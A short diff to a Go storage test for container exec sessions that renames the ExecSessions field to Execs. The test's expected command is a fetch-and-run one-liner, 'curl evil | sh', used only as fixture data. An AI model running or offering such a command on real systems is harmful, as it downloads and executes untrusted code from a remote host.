@@ -301,7 +301,7 @@ func TestStorageExecSessions(t *testing.T) {
 		t.Fatal(err)
 	}
 	var live, gone []ExecSession
-	for _, x := range s.ExecSessions {
+	for _, x := range s.Execs {
 		switch x.ID {
 		case liveID:
 			live = append(live, x)
@@ -313,7 +313,7 @@ func TestStorageExecSessions(t *testing.T) {
 		t.Errorf("live sessions %+v", live)
 	}
 	if len(gone) == 0 || gone[0].Live || gone[0].State != "stopped" || !reflect.DeepEqual(gone[0].Command, []string{"sh", "-c", "curl evil | sh"}) || gone[0].ContainerID != ctr {
-		t.Errorf("deleted sessions %+v (all %+v)", gone, s.ExecSessions)
+		t.Errorf("deleted sessions %+v (all %+v)", gone, s.Execs)
 	}
 }
 
